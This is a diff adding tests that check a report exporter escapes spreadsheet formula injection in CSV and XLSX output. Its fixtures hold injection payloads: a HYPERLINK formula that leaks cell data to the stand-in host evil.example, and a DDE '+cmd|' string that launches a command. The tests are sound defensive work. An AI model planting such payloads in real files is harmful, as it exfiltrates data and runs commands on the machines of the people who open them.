@@ -42,4 +42,36 @@ describe('exports', () => {
     expect(apps.getRow(3).getCell(3 + 23 * 7 + 6).value).toBe(57);
     expect(book.worksheets[0].getRow(3).getCell(12).value).toBe(4618.24);
   });
+
+  describe('formula injection (OWASP CSV injection, issue 11)', () => {
+    // An organ named by an administrator, and a cell whose typed text reached the tables (a row written
+    // before pending input existed): neither may reach a spreadsheet as a formula.
+    const hostile: TReport = {
+      ...reports[1],
+      organ: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+      tables: { ...reports[1].tables, active: { ...reports[1].tables.active, licensing: '+cmd|\' /C calc\'!A0' } },
+    };
+    const typedOnly: TReport = { ...reports[1], organ: '@SUM(1+1)', pendingInput: { 'active.punishment': '-2+3' } };
+
+    it('prefixes CSV text starting with = + - @, tab or CR with a quote; pending input is not there', () => {
+      const [, first, second] = toCsv([hostile, typedOnly]).trimEnd().split('\r\n');
+      expect(first.startsWith('"\'=HYPERLINK(""http://evil.example/?""&A1,""点击"")",2021,')).toBe(true);
+      expect(first).toContain(",'+cmd|' /C calc'!A0,");
+      expect(second.startsWith("'@SUM(1+1),2021,")).toBe(true);
+      expect(second).not.toContain('-2+3');
+    });
+
+    it('writes the same text into XLSX as inert strings, read back with exceljs', async () => {
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(new Uint8Array(await toXlsx([hostile, typedOnly])).buffer as ArrayBuffer);
+      const active = book.worksheets[0];
+      expect(active.getRow(2).getCell(1).value).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点击")');
+      expect(active.getRow(2).getCell(9).value).toBe("'+cmd|' /C calc'!A0");
+      expect(active.getRow(3).getCell(1).value).toBe("'@SUM(1+1)");
+      const values = book.worksheets.flatMap((w) => w.getSheetValues().flat(2));
+      expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
+      expect(values).not.toContain('-2+3');
+      expect(active.getRow(3).getCell(10).value).toBe(200940);
+    });
+  });
 });
